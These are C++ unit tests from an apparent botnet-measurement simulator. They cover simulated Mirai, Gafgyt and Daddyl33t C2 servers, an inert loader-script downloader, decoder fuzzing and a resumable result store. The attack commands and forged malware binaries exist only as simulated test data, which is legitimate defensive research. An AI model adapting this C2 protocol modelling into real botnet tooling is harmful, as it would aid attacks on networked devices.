TEST(C2Server, Daddyl33tAnswersLogin) {
  Sim s;
  C2Server server(s.net, always_on(proto::Family::kDaddyl33t, {60, 0, 0, 3}, 1312),
                  util::Rng(3));
  sim::Host bot(s.net, net::Ipv4{10, 0, 0, 9});
  std::string got;
  bot.tcp_connect({server.endpoint().ip, 1312}, [&](sim::ConnectOutcome, sim::TcpConn* c) {
    ASSERT_NE(c, nullptr);
    c->on_data([&](sim::TcpConn&, util::BytesView d) { got += util::to_string(d); });
    c->send(proto::daddyl33t::encode_login("bot7"));
  });
  s.sched.run_until(s.sched.now() + sim::Duration::seconds(10));
  EXPECT_EQ(got, ".ping\n");
}

TEST(C2Server, IgnoresWrongProtocolAndKicksSilentPeers) {
  Sim s;
  auto cfg = always_on(proto::Family::kMirai, {60, 0, 0, 4}, 23);
  C2Server server(s.net, cfg, util::Rng(4));
  sim::Host bot(s.net, net::Ipv4{10, 0, 0, 9});
  bool closed = false;
  bot.tcp_connect({server.endpoint().ip, 23}, [&](sim::ConnectOutcome, sim::TcpConn* c) {
    ASSERT_NE(c, nullptr);
    c->on_close([&](sim::TcpConn&) { closed = true; });
    c->send(proto::gafgyt::encode_hello("MIPS"));  // wrong family protocol
  });
  s.sched.run_until(s.sched.now() + sim::Duration::minutes(5));
  EXPECT_TRUE(closed);  // 2-minute hygiene reset
  EXPECT_EQ(server.commands_issued(), 0u);
}

TEST(C2Server, DormancyAfterServedSession) {
  Sim s;
  auto cfg = always_on(proto::Family::kGafgyt, {60, 0, 0, 5}, 666);
  cfg.mean_dormancy = sim::Duration::hours(30);
  C2Server server(s.net, cfg, util::Rng(5));
  sim::Host bot(s.net, net::Ipv4{10, 0, 0, 9});

  bot.tcp_connect({server.endpoint().ip, 666}, [&](sim::ConnectOutcome, sim::TcpConn* c) {
    ASSERT_NE(c, nullptr);
    c->send(proto::gafgyt::encode_hello("MIPS"));
    // Close shortly after registering (a probe-style session).
    sim::TcpConn* cp = c;
    bot.schedule_safe(sim::Duration::seconds(5), [cp]() { cp->close(); });
  });
  s.sched.run_until(s.sched.now() + sim::Duration::minutes(2));
  EXPECT_FALSE(server.currently_listening());  // dormant
}

TEST(C2Server, ElusivenessStatistics) {
  // With accept_prob p and no sessions, the listener should be up roughly
  // a fraction p of re-rolls.
  Sim s;
  auto cfg = always_on(proto::Family::kMirai, {60, 0, 0, 6}, 23);
  cfg.accept_prob = 0.5;
  cfg.toggle_period = sim::Duration::minutes(10);
  C2Server server(s.net, cfg, util::Rng(6));
  int up = 0, checks = 0;
  for (int i = 0; i < 400; ++i) {
    s.sched.run_until(s.sched.now() + sim::Duration::minutes(10));
    ++checks;
    if (server.currently_listening()) ++up;
  }
  const double frac = static_cast<double>(up) / checks;
  EXPECT_NEAR(frac, 0.5, 0.1);
}

// --- Downloader ----------------------------------------------------------------

TEST(Downloader, ServesLoaderScripts) {
  Sim s;
  DownloaderServer dl(s.net, net::Ipv4{60, 0, 0, 7});
  sim::Host victim(s.net, net::Ipv4{10, 0, 0, 8});
  std::string body;
  victim.tcp_connect({dl.addr(), 80}, [&](sim::ConnectOutcome, sim::TcpConn* c) {
    ASSERT_NE(c, nullptr);
    c->on_data([&](sim::TcpConn&, util::BytesView d) {
      const auto resp = inetsim::parse_response(util::to_string(d));
      if (resp) body = resp->body;
    });
    inetsim::HttpRequest req;
    req.path = "/t8UsA2.sh";
    c->send(req.serialize());
  });
  s.sched.run();
  EXPECT_NE(body.find("t8UsA2.sh"), std::string::npos);
  EXPECT_NE(body.find("inert"), std::string::npos);
  EXPECT_EQ(dl.requests(), 1u);
  EXPECT_EQ(dl.hits_by_path().at("/t8UsA2.sh"), 1u);
}

// --- World plan invariants -------------------------------------------------------

class WorldPlan : public ::testing::Test {
 protected:
  static const World& world() {
    static Sim s;
    static WorldConfig cfg = [] {
      WorldConfig c;
      c.seed = 22;
      return c;
    }();
    static World w(s.net, cfg);
    return w;
  }
};

TEST_F(WorldPlan, SampleCountMatchesTable1) {
  // 1447 MIPS-32 binaries (Table 1) plus the feed's non-MIPS noise the
  // pipeline's architecture gate discards (§2.2).
  int mips = 0, other = 0;
  for (const auto& s : world().samples()) {
    (s.truth_arch == mal::Arch::kMips32 ? mips : other)++;
  }
  EXPECT_EQ(mips, 1447);
  EXPECT_GT(other, 0);
  EXPECT_LT(other, 150);
}

TEST_F(WorldPlan, SamplesSortedByDayWithinStudy) {
  std::int64_t prev = -1;
  for (const auto& s : world().samples()) {
    EXPECT_GE(s.first_seen_day, prev);
    prev = s.first_seen_day;
    EXPECT_GE(s.first_seen_day, 0);
    EXPECT_LE(s.first_seen_day, 400);
  }
}

TEST_F(WorldPlan, BinariesParseAndMatchGroundTruth) {
  int checked = 0;
  for (const auto& s : world().samples()) {
    if (++checked > 80) break;  // spot-check a prefix
    const auto parsed = mal::parse(s.binary);
    if (s.truth_corrupt) {
      EXPECT_FALSE(parsed) << "corrupt downloads must not parse";
      continue;
    }
    ASSERT_TRUE(parsed) << s.sha256;
    EXPECT_EQ(parsed->arch, s.truth_arch);
    EXPECT_EQ(parsed->behavior.family, s.truth_family);
    EXPECT_FALSE(parsed->behavior.validate().has_value());
  }
}

TEST_F(WorldPlan, FamilyMatchesPrimaryC2) {
  for (const auto& s : world().samples()) {
    if (s.truth_c2_refs.empty()) continue;
    const auto* c2 = world().find_c2(s.truth_c2_refs.front());
    ASSERT_NE(c2, nullptr);
    EXPECT_EQ(c2->cfg.family, s.truth_family)
        << "sample family must match its C2's protocol";
  }
}

TEST_F(WorldPlan, AttackerFleetShape) {
  int attackers = 0, planned_cmds = 0;
  for (const auto& c2 : world().c2_plan()) {
    if (!c2.attacker) continue;
    ++attackers;
    planned_cmds += static_cast<int>(c2.cfg.attack_plan.size());
    EXPECT_GE(c2.lifetime_days, 10);  // §5: ~10 day lifespan
    EXPECT_FALSE(proto::is_p2p(c2.cfg.family));
    for (const auto& cmd : c2.cfg.attack_plan) {
      // Every planned command must be expressible in the family's grammar.
      const auto& repertoire = proto::attacks_of(c2.cfg.family);
      EXPECT_NE(std::find(repertoire.begin(), repertoire.end(), cmd.type),
                repertoire.end());
    }
  }
  EXPECT_EQ(attackers, 17);           // §5: 17 issuing C2s
  EXPECT_GE(planned_cmds, 34);        // enough to produce ~42 observations
}

TEST_F(WorldPlan, UniqueSampleHashesAndC2Addresses) {
  std::set<std::string> hashes;
  for (const auto& s : world().samples()) {
    EXPECT_TRUE(hashes.insert(s.sha256).second) << "duplicate sha256";
  }
  std::set<std::string> addrs;
  for (const auto& c2 : world().c2_plan()) {
    EXPECT_TRUE(addrs.insert(c2.address).second) << "duplicate C2 address";
  }
}

TEST_F(WorldPlan, WeeklyLayoutMatchesAppendixE) {
  const auto& weeks = active_week_start_days();
  ASSERT_EQ(weeks.size(), 31u);
  EXPECT_EQ(weeks.front(), 0);
  // Week 21 of the study = calendar week 2 of 2022 (2022-01-10, day 287).
  EXPECT_EQ(weeks[20], 287);
  const auto& volume = weekly_sample_volume();
  ASSERT_EQ(volume.size(), 31u);
  int total = 0;
  for (const int v : volume) total += v;
  EXPECT_EQ(total, 1447);
  // Peak at study week 28 (§3.1).
  EXPECT_EQ(*std::max_element(volume.begin(), volume.end()), volume[27]);
}

TEST_F(WorldPlan, DeterministicAcrossRebuilds) {
  Sim s2;
  WorldConfig cfg;
  cfg.seed = 22;
  World other(s2.net, cfg);
  ASSERT_EQ(other.samples().size(), world().samples().size());
  for (std::size_t i = 0; i < other.samples().size(); i += 97) {
    EXPECT_EQ(other.samples()[i].sha256, world().samples()[i].sha256);
  }
  ASSERT_EQ(other.c2_plan().size(), world().c2_plan().size());
}

TEST(WorldLifecycle, ServersComeAndGo) {
  Sim s;
  WorldConfig cfg;
  cfg.seed = 7;
  cfg.total_samples = 60;
  World w(s.net, cfg);
  const auto& first = w.c2_plan().front();
  w.advance_to_day(first.birth_day);
  EXPECT_NE(w.live_c2(first.address), nullptr);
  w.advance_to_day(first.death_day());
  EXPECT_EQ(w.live_c2(first.address), nullptr);
  EXPECT_THROW(w.advance_to_day(first.birth_day), std::logic_error);  // no rewind
}

// --- Probe world -----------------------------------------------------------------

TEST(ProbeWorld, ShapeMatchesSection23b) {
  Sim s;
  const auto world = build_probe_world(s.net);
  EXPECT_EQ(world.subnets.size(), 6u);
  EXPECT_EQ(world.c2s.size(), 7u);
  EXPECT_EQ(table5_ports().size(), 12u);
  // All C2s live inside the probed subnets on Table 5 ports.
  for (const auto& c2 : world.c2s) {
    bool inside = false;
    for (const auto& subnet : world.subnets) inside |= subnet.contains(c2->addr());
    EXPECT_TRUE(inside);
    const auto& ports = table5_ports();
    EXPECT_NE(std::find(ports.begin(), ports.end(), c2->config().port), ports.end());
  }
  // Both weapon families are represented.
  std::set<proto::Family> fams;
  for (const auto& c2 : world.c2s) fams.insert(c2->config().family);
  EXPECT_TRUE(fams.count(proto::Family::kGafgyt));
  EXPECT_TRUE(fams.count(proto::Family::kMirai));
}
