// Decoder robustness: every wire-format parser in the project must reject
// arbitrary byte soup gracefully (nullopt / exception-free), never crash,
// and must survive systematic truncation and single-byte corruption of
// valid messages. This is the fuzz-shaped safety net for code that, in the
// real deployment, parses attacker-controlled bytes.
#include <gtest/gtest.h>

#include "dns/message.hpp"
#include "inetsim/http.hpp"
#include "mal/binary.hpp"
#include "net/packet.hpp"
#include "core/c2detect.hpp"
#include "core/offline.hpp"
#include "net/pcap.hpp"
#include "proto/daddyl33t.hpp"
#include "proto/gafgyt.hpp"
#include "proto/irc.hpp"
#include "proto/mirai.hpp"
#include "proto/p2p.hpp"
#include "util/rng.hpp"

using namespace malnet;

namespace {

/// Feeds `decode` random buffers of assorted sizes; none may crash/throw.
template <typename F>
void random_soup(F&& decode, std::uint64_t seed, int iterations = 400) {
  util::Rng rng(seed);
  for (int i = 0; i < iterations; ++i) {
    const auto len = static_cast<std::size_t>(rng.uniform(0, 300));
    util::Bytes soup(len);
    for (auto& b : soup) b = static_cast<std::uint8_t>(rng.uniform(0, 255));
    decode(soup);
  }
}

/// Every strict prefix of a valid message must be rejected or parsed
/// without crashing.
template <typename F>
void truncation_sweep(const util::Bytes& valid, F&& decode) {
  for (std::size_t n = 0; n < valid.size(); ++n) {
    decode(util::Bytes(valid.begin(), valid.begin() + static_cast<std::ptrdiff_t>(n)));
  }
}

/// Flipping any single byte of a valid message must not crash the decoder.
template <typename F>
void corruption_sweep(const util::Bytes& valid, F&& decode) {
  for (std::size_t i = 0; i < valid.size(); ++i) {
    util::Bytes mutated = valid;
    mutated[i] ^= 0xFF;
    decode(mutated);
  }
}

}  // namespace

TEST(Robustness, MiraiDecoders) {
  const auto decode = [](const util::Bytes& b) {
    (void)proto::mirai::decode_handshake(b);
    (void)proto::mirai::decode_attack(b);
    (void)proto::mirai::is_keepalive(b);
  };
  random_soup(decode, 1);
  proto::AttackCommand cmd;
  cmd.type = proto::AttackType::kUdpFlood;
  cmd.target = {net::Ipv4{1, 2, 3, 4}, 80};
  const auto valid = proto::mirai::encode_attack(cmd);
  truncation_sweep(valid, decode);
  corruption_sweep(valid, decode);
  truncation_sweep(proto::mirai::encode_handshake("bot-id"), decode);
}

TEST(Robustness, TextProtocolDecoders) {
  util::Rng rng(2);
  for (int i = 0; i < 400; ++i) {
    std::string line;
    const auto len = static_cast<std::size_t>(rng.uniform(0, 120));
    for (std::size_t k = 0; k < len; ++k) {
      line.push_back(static_cast<char>(rng.uniform(1, 255)));
    }
    (void)proto::gafgyt::decode_attack(line);
    (void)proto::gafgyt::decode_hello(line);
    (void)proto::daddyl33t::decode_attack(line);
    (void)proto::daddyl33t::decode_login(line);
    (void)proto::irc::parse(line);
  }
}

TEST(Robustness, DnsDecoder) {
  const auto decode = [](const util::Bytes& b) { (void)dns::decode(b); };
  random_soup(decode, 3);
  const auto valid = dns::encode(dns::make_query(7, "cnc.example.com"));
  truncation_sweep(valid, decode);
  corruption_sweep(valid, decode);
  const auto resp = dns::encode(
      dns::make_response(dns::make_query(7, "a.b"), net::Ipv4{1, 2, 3, 4}));
  truncation_sweep(resp, decode);
  corruption_sweep(resp, decode);
}

TEST(Robustness, PacketWireParser) {
  const auto decode = [](const util::Bytes& b) { (void)net::from_wire(b); };
  random_soup(decode, 4);
  net::Packet p;
  p.src = net::Ipv4{1, 1, 1, 1};
  p.dst = net::Ipv4{2, 2, 2, 2};
  p.proto = net::Protocol::kTcp;
  p.src_port = 1;
  p.dst_port = 2;
  p.payload = util::to_bytes("payload");
  const auto valid = net::to_wire(p);
  truncation_sweep(valid, decode);
  corruption_sweep(valid, decode);
}

TEST(Robustness, PcapReader) {
  const auto decode = [](const util::Bytes& b) {
    try {
      (void)net::read_pcap(b);
    } catch (const util::TruncatedInput&) {
      // expected rejection path
    }
  };
  random_soup(decode, 5);
  net::PcapWriter w;
  net::Packet p;
  p.src = net::Ipv4{1, 1, 1, 1};
  p.dst = net::Ipv4{2, 2, 2, 2};
  p.proto = net::Protocol::kUdp;
  w.add(p);
  truncation_sweep(w.bytes(), decode);
  corruption_sweep(w.bytes(), decode);
}

TEST(Robustness, HttpParsers) {
  util::Rng rng(6);
  for (int i = 0; i < 400; ++i) {
    std::string soup;
    const auto len = static_cast<std::size_t>(rng.uniform(0, 200));
    for (std::size_t k = 0; k < len; ++k) {
      soup.push_back(static_cast<char>(rng.uniform(1, 255)));
    }
    (void)inetsim::parse_request(soup);
    (void)inetsim::parse_response(soup);
  }
}

TEST(Robustness, P2pDecoders) {
  const auto decode = [](const util::Bytes& b) {
    (void)proto::p2p::decode_ping(b);
    (void)proto::p2p::decode_get_peers(b);
    (void)proto::p2p::decode_peers_reply(b);
    (void)proto::p2p::looks_like_dht(b);
  };
  random_soup(decode, 7);
  proto::p2p::PeersReply reply;
  reply.node_id = std::string(20, 'N');
  reply.txn = "ab";
  reply.peers = {{net::Ipv4{1, 2, 3, 4}, 6881}};
  const auto valid = proto::p2p::encode_peers_reply(reply);
  truncation_sweep(valid, decode);
  corruption_sweep(valid, decode);
}

TEST(Robustness, MbfParser) {
  const auto decode = [](const util::Bytes& b) { (void)mal::parse(b); };
  random_soup(decode, 8);
  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kMirai;
  bin.behavior.c2_ip = net::Ipv4{60, 1, 1, 1};
  bin.behavior.scans.push_back({23, vulndb::VulnId::kMvpowerDvr, 10, 5.0});
  util::Rng rng(9);
  const auto valid = mal::forge(bin, rng, 64);
  truncation_sweep(valid, decode);
  corruption_sweep(valid, decode);
}

TEST(Robustness, BehaviorDecoder) {
  const auto decode = [](const util::Bytes& b) { (void)mal::decode_behavior(b); };
  random_soup(decode, 10);
  mal::BehaviorSpec spec;
  spec.family = proto::Family::kGafgyt;
  spec.c2_ip = net::Ipv4{60, 1, 1, 1};
  spec.c2_fallback_ip = net::Ipv4{60, 2, 2, 2};
  spec.scans.push_back({8080, vulndb::VulnId::kGpon10561, 60, 15.0});
  const auto valid = mal::encode_behavior(spec);
  truncation_sweep(valid, decode);
  corruption_sweep(valid, decode);
}

TEST(Robustness, OfflineRoundTripPreservesAnalysis) {
  // A saved capture reloaded through the offline path must yield the same
  // C2 candidates as the live report (artifact-sharing workflow).
  net::PcapWriter w;
  for (int i = 0; i < 3; ++i) {
    net::Packet syn;
    syn.time = util::SimTime{i * 25'000'000};
    syn.src = net::Ipv4{10, 77, 0, 16};
    syn.dst = net::Ipv4{60, 1, 1, 1};
    syn.proto = net::Protocol::kTcp;
    syn.src_port = static_cast<net::Port>(50000 + i);
    syn.dst_port = 23;
    syn.flags.syn = true;
    w.add(syn);
  }
  const std::string path = ::testing::TempDir() + "/offline.pcap";
  w.save(path);
  const auto report = core::report_from_pcap(path);
  const auto cands = core::detect_c2(report, net::Ipv4{10, 99, 7, 7});
  ASSERT_EQ(cands.size(), 1u);
  EXPECT_EQ(cands[0].address, "60.1.1.1");
}
