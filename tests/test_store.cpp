// malnet::store — crash-safe segment store, resume and the query layer.
//
// The load-bearing contract (ISSUE: checkpoint/resume): whatever subset of
// shard segments survived a kill, `--resume` produces a merged artifact
// byte-identical to the uninterrupted run. The tests below prove it for
// hand-picked subsets, for generator-driven kill masks under hostile
// chaos, and for deliberately corrupted segments (which must be re-run,
// not trusted).
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "core/parallel_study.hpp"
#include "fault/fault.hpp"
#include "profile/registry.hpp"
#include "report/dataset_io.hpp"
#include "store/query.hpp"
#include "store/store.hpp"
#include "testkit/check.hpp"
#include "testkit/gen.hpp"
#include "util/fsio.hpp"

using namespace malnet;
using namespace malnet::store;
namespace fs = std::filesystem;

namespace {

core::ParallelStudyConfig study_config(
    std::uint64_t seed, int samples, int shards, int jobs,
    faultsim::Profile chaos = faultsim::Profile::kNone) {
  core::ParallelStudyConfig cfg;
  cfg.base.seed = seed;
  cfg.base.world.total_samples = samples;
  cfg.base.run_probe_campaign = false;
  cfg.base.chaos = chaos;
  cfg.base.chaos_seed = 7;
  cfg.shards = shards;
  cfg.jobs = jobs;
  return cfg;
}

/// Fresh per-test store directory (TempDir is shared across the binary).
std::string fresh_dir(const std::string& name) {
  const auto dir = ::testing::TempDir() + "/store_" + name;
  fs::remove_all(dir);
  return dir;
}

util::Bytes study_bytes(const core::ParallelStudyConfig& cfg) {
  return report::serialize_datasets(core::ParallelStudy(cfg).run());
}

/// Commits the shards selected by `mask` exactly as run_store_study would
/// (same fingerprint, seed and shard identity) — the on-disk state after a
/// kill that let those shards finish.
void commit_shard_subset(Store& st, const core::ParallelStudyConfig& cfg,
                         unsigned mask) {
  const auto fingerprint = study_fingerprint(cfg);
  for (int i = 0; i < cfg.shards; ++i) {
    if ((mask & (1u << i)) == 0) continue;
    core::Pipeline pipeline(core::shard_config(cfg.base, cfg.shards, i));
    st.commit(pipeline.run(), SegmentKind::kShard, fingerprint,
              static_cast<std::uint32_t>(i),
              static_cast<std::uint32_t>(cfg.shards),
              core::shard_seed(cfg.base.seed, cfg.shards, i));
  }
}

std::uint64_t counter_value(const Store& st, const std::string& name) {
  const auto snap = st.metrics();
  const auto it = snap.counters.find(name);
  return it == snap.counters.end() ? 0 : it->second;
}

}  // namespace

TEST(SegmentIndex, EncodeDecodeRoundTrip) {
  const auto results = core::ParallelStudy(study_config(22, 40, 2, 2)).run();
  const auto index = build_index(results);
  EXPECT_EQ(index.samples, results.d_samples.size());
  EXPECT_EQ(index.distinct_c2s(), results.d_c2s.size());
  util::ByteWriter w;
  encode_index(w, index);
  util::ByteReader r(util::BytesView{w.bytes()});
  const auto decoded = decode_index(r);
  EXPECT_TRUE(r.done());
  EXPECT_EQ(decoded, index);
}

TEST(SegmentIndex, MergeMatchesStudyMerge) {
  // Index merge must commute with dataset merge: merging per-shard indexes
  // gives the index of the merged shards, so multi-segment query answers
  // always match what a monolithic StudyResults would report.
  const auto cfg = study_config(22, 60, 3, 1);
  std::vector<core::StudyResults> parts;
  SegmentIndex merged_index;
  for (int i = 0; i < cfg.shards; ++i) {
    core::Pipeline pipeline(core::shard_config(cfg.base, cfg.shards, i));
    parts.push_back(pipeline.run());
    merged_index.merge(build_index(parts.back()));
  }
  const auto merged = core::merge_study_results(std::move(parts));
  EXPECT_EQ(merged_index, build_index(merged));
}

TEST(SegmentCodec, HeaderRoundTripAndHash) {
  const auto results = core::ParallelStudy(study_config(5, 20, 1, 1)).run();
  SegmentHeader header;
  header.kind = SegmentKind::kIngest;
  header.fingerprint = 0xABCDEF;
  header.seed = 42;
  const auto payload = report::serialize_datasets(results);
  const auto bytes =
      encode_segment(header, build_index(results), util::BytesView{payload});
  const auto decoded = decode_segment_header(util::BytesView{bytes});
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(decoded->kind, SegmentKind::kIngest);
  EXPECT_EQ(decoded->fingerprint, 0xABCDEFu);
  EXPECT_EQ(decoded->seed, 42u);
  EXPECT_EQ(kSegmentHeaderSize + decoded->index_len + decoded->payload_len,
            bytes.size());

  const auto hash = content_hash(util::BytesView{bytes});
  EXPECT_EQ(hash.size(), 64u);
  auto tampered = bytes;
  tampered.back() ^= 0xFF;
  EXPECT_NE(content_hash(util::BytesView{tampered}), hash);
  // Short/garbage headers must be rejected, not misparsed.
  EXPECT_FALSE(decode_segment_header(util::BytesView{bytes}.subspan(0, 10)));
  auto bad_magic = bytes;
  bad_magic[0] ^= 0xFF;
  EXPECT_FALSE(decode_segment_header(util::BytesView{bad_magic}));
}

TEST(Store, CommitPersistsAcrossReopen) {
  const auto dir = fresh_dir("reopen");
  const auto results = core::ParallelStudy(study_config(7, 20, 1, 1)).run();
  SegmentMeta committed;
  {
    Store st(dir);
    committed = st.commit(results, SegmentKind::kIngest, 0, 0, 1, 7);
    // Committing identical content again is a no-op returning the entry.
    const auto again = st.commit(results, SegmentKind::kIngest, 0, 0, 1, 7);
    EXPECT_EQ(again.seq, committed.seq);
    EXPECT_EQ(st.segments().size(), 1u);
  }
  Store reopened(dir);
  const auto segs = reopened.segments();
  ASSERT_EQ(segs.size(), 1u);
  EXPECT_EQ(segs[0].hash, committed.hash);
  EXPECT_EQ(segs[0].file, committed.file);
  EXPECT_EQ(segs[0].kind, SegmentKind::kIngest);
  const auto loaded = reopened.load_payload(segs[0]);
  EXPECT_EQ(report::serialize_datasets(loaded),
            report::serialize_datasets(results));
}

TEST(Store, StoreStudyMatchesParallelStudyAndResumes) {
  const auto dir = fresh_dir("full");
  const auto cfg = study_config(22, 60, 4, 2);
  const auto baseline = study_bytes(cfg);

  Store st(dir);
  const auto first = run_store_study(cfg, st, /*resume=*/false);
  EXPECT_EQ(report::serialize_datasets(first), baseline);
  EXPECT_EQ(st.segments().size(), 4u);

  // Second run resumes every shard: no pipeline executes, same bytes.
  const auto resumed = run_store_study(cfg, st, /*resume=*/true);
  EXPECT_EQ(report::serialize_datasets(resumed), baseline);
  EXPECT_EQ(counter_value(st, "store.resume_hits"), 4u);
  EXPECT_EQ(counter_value(st, "store.resume_misses"), 0u);
}

TEST(Store, FingerprintCoversOutputChangingKnobs) {
  const auto base = study_config(22, 60, 4, 2);
  const auto fp = study_fingerprint(base);
  EXPECT_EQ(fp, study_fingerprint(base));  // stable

  auto seed = base;
  seed.base.seed = 23;
  auto samples = base;
  samples.base.world.total_samples = 61;
  auto shards = base;
  shards.shards = 5;
  auto chaos = base;
  chaos.base.chaos = faultsim::Profile::kHostile;
  auto chaos_seed = base;
  chaos_seed.base.chaos_seed = 99;
  for (const auto& changed : {seed, samples, shards, chaos, chaos_seed}) {
    EXPECT_NE(study_fingerprint(changed), fp);
  }
  // jobs never changes study output, so it must not invalidate a resume.
  auto jobs = base;
  jobs.jobs = 1;
  EXPECT_EQ(study_fingerprint(jobs), fp);
}

TEST(Store, FingerprintCoversProfileSetAndVariant) {
  const auto base = study_config(22, 60, 4, 2);
  const auto fp = study_fingerprint(base);

  // Loading files byte-equivalent to the builtins must not invalidate a
  // resume (the committed profiles/ directory is exactly such a set).
  const auto dir = fs::path(::testing::TempDir()) / "fp_profiles";
  fs::remove_all(dir);  // a previous run's variant file must not leak in
  fs::create_directories(dir);
  for (const auto* p : profile::Registry::builtin().all()) {
    std::ofstream(dir / (p->name + ".json")) << p->to_pretty_json();
  }
  auto same = std::make_shared<profile::Registry>();
  ASSERT_FALSE(same->load_dir(dir.string()).has_value());
  auto with_same = base;
  with_same.base.profiles = same;
  EXPECT_EQ(study_fingerprint(with_same), fp);

  // ...while a changed or added profile must invalidate it.
  auto variant = profile::builtin_profile(proto::Family::kMirai);
  variant.name = "mirai-fallback";
  variant.handshake_magic = 2;
  variant.extra_fallbacks = 2;
  variant.attacker_quota = 0;
  std::ofstream(dir / "zz-variant.json") << variant.to_pretty_json();
  auto changed = std::make_shared<profile::Registry>();
  ASSERT_FALSE(changed->load_dir(dir.string()).has_value());
  auto with_changed = base;
  with_changed.base.profiles = changed;
  EXPECT_NE(study_fingerprint(with_changed), fp);

  // Variant routing changes every dataset, so it is fingerprinted too.
  auto routed = with_changed;
  routed.base.world.variant_name = "mirai-fallback";
  routed.base.world.variant_fraction = 0.5;
  EXPECT_NE(study_fingerprint(routed), study_fingerprint(with_changed));
}

TEST(Store, ResumeFromPartialCommitMatrix) {
  // A kill between shard commits leaves an arbitrary prefix/subset durable.
  // For every jobs x chaos combination, resuming from a two-of-four subset
  // must reproduce the uninterrupted artifact byte-for-byte.
  int case_id = 0;
  for (const int jobs : {1, 4}) {
    for (const auto chaos :
         {faultsim::Profile::kNone, faultsim::Profile::kHostile}) {
      const auto cfg = study_config(22, 48, 4, jobs, chaos);
      const auto baseline = study_bytes(cfg);
      const auto dir = fresh_dir("matrix" + std::to_string(case_id++));
      Store st(dir);
      commit_shard_subset(st, cfg, 0b0101);  // shards 0 and 2 survived
      const auto resumed = run_store_study(cfg, st, /*resume=*/true);
      EXPECT_EQ(report::serialize_datasets(resumed), baseline)
          << "jobs=" << jobs << " chaos=" << static_cast<int>(chaos);
      EXPECT_EQ(counter_value(st, "store.resume_hits"), 2u);
      EXPECT_EQ(counter_value(st, "store.resume_misses"), 2u);
      EXPECT_EQ(st.segments().size(), 4u);
    }
  }
}

TEST(StoreProps, AnyKillPointResumesToIdenticalBytes) {
  // Property (ISSUE satellite): for ANY subset of committed shards — i.e.
  // a kill at any point between shard commits — resume + merge equals the
  // uninterrupted run, under hostile chaos and parallel workers.
  const auto cfg = study_config(33, 48, 4, 4, faultsim::Profile::kHostile);
  const auto baseline = study_bytes(cfg);
  int case_id = 0;
  testkit::CheckConfig check_cfg;
  check_cfg.cases = 6;
  check_cfg.name = "kill-point resume identity";
  check_cfg.env_overrides = false;  // the dir-per-case counter is not shrink-safe
  const auto r = testkit::check(
      testkit::ints<unsigned>(0, 15),
      [&](unsigned mask) {
        const auto dir = fresh_dir("kill" + std::to_string(case_id++));
        Store st(dir);
        commit_shard_subset(st, cfg, mask);
        const auto resumed = run_store_study(cfg, st, /*resume=*/true);
        return report::serialize_datasets(resumed) == baseline;
      },
      check_cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(Store, CorruptSegmentIsDetectedAndReRun) {
  const auto dir = fresh_dir("corrupt");
  const auto cfg = study_config(22, 40, 2, 1);
  const auto baseline = study_bytes(cfg);
  Store st(dir);
  (void)run_store_study(cfg, st, /*resume=*/false);

  // Simulate a torn write the commit protocol can't rule out for files a
  // third party scribbled on: flip one payload byte in shard 0's segment.
  const auto segs = st.segments();
  ASSERT_EQ(segs.size(), 2u);
  const auto victim = dir + "/segments/" + segs[0].file;
  {
    std::fstream f(victim, std::ios::in | std::ios::out | std::ios::binary);
    ASSERT_TRUE(f.good());
    f.seekp(-1, std::ios::end);
    const char bit = 0x01;
    f.write(&bit, 1);
  }
  Store reopened(dir);
  const auto resumed = run_store_study(cfg, reopened, /*resume=*/true);
  EXPECT_EQ(report::serialize_datasets(resumed), baseline);
  EXPECT_EQ(counter_value(reopened, "store.verify_failures"), 1u);
  EXPECT_EQ(counter_value(reopened, "store.resume_hits"), 1u);
  EXPECT_EQ(counter_value(reopened, "store.resume_misses"), 1u);
}

TEST(Store, OpenCollectsCrashLitter) {
  const auto dir = fresh_dir("gc");
  {
    Store st(dir);
    const auto results = core::ParallelStudy(study_config(7, 20, 1, 1)).run();
    st.commit(results, SegmentKind::kIngest, 0, 0, 1, 7);
  }
  // Crash litter: a stale atomic-write temp (crash before rename) and a
  // fully-written but unreferenced segment (crash before the manifest
  // rename).
  std::ofstream(dir + "/.MANIFEST.tmp12345") << "torn";
  std::ofstream(dir + "/segments/deadbeefdeadbeef.seg") << "orphan";
  std::ofstream(dir + "/segments/.deadbeef.seg.tmp99") << "torn";
  Store reopened(dir);
  EXPECT_EQ(counter_value(reopened, "store.orphans_removed"), 3u);
  EXPECT_FALSE(fs::exists(dir + "/.MANIFEST.tmp12345"));
  EXPECT_FALSE(fs::exists(dir + "/segments/deadbeefdeadbeef.seg"));
  EXPECT_FALSE(fs::exists(dir + "/segments/.deadbeef.seg.tmp99"));
  ASSERT_EQ(reopened.segments().size(), 1u);
  EXPECT_NO_THROW((void)reopened.load_payload(reopened.segments()[0]));
}

TEST(Store, CorruptManifestThrows) {
  const auto dir = fresh_dir("badmanifest");
  { Store st(dir); }
  std::ofstream(dir + "/MANIFEST") << "not a manifest\n";
  EXPECT_THROW(Store{dir}, std::runtime_error);
}

TEST(Query, AnswersFromIndexesOnlyAndMatchesMonolithic) {
  const auto dir = fresh_dir("query");
  const auto cfg = study_config(22, 60, 3, 2);
  Store writer(dir);
  const auto monolithic = run_store_study(cfg, writer, /*resume=*/false);

  // A fresh handle models `malnetctl query`: nothing cached, only the
  // per-segment indexes may be read.
  Store st(dir);
  QueryEngine engine(st);
  EXPECT_EQ(engine.merged().samples, monolithic.d_samples.size());
  EXPECT_EQ(engine.merged().distinct_c2s(), monolithic.d_c2s.size());
  EXPECT_EQ(engine.merged().exploits, monolithic.d_exploits.size());
  EXPECT_EQ(engine.merged().ddos, monolithic.d_ddos.size());

  // The liveness series must equal the one recomputed from the full
  // datasets.
  std::map<std::int64_t, std::uint64_t> expected;
  for (const auto& [addr, rec] : monolithic.d_c2s) {
    for (const auto day : rec.live_days) ++expected[day];
  }
  EXPECT_EQ(engine.merged().liveness_series(), expected);

  const auto totals = engine.answer("totals");
  EXPECT_NE(totals.find("samples=" + std::to_string(monolithic.d_samples.size())),
            std::string::npos)
      << totals;
  EXPECT_EQ(engine.answer("bogus").rfind("err ", 0), 0u);

  // Partial-read proof: indexes were read, payloads never.
  EXPECT_EQ(counter_value(st, "store.segments_opened"), 3u);
  EXPECT_GT(counter_value(st, "store.index_bytes_read"), 0u);
  EXPECT_EQ(counter_value(st, "store.payload_bytes_read"), 0u);
  EXPECT_EQ(counter_value(st, "store.queries"), 2u);
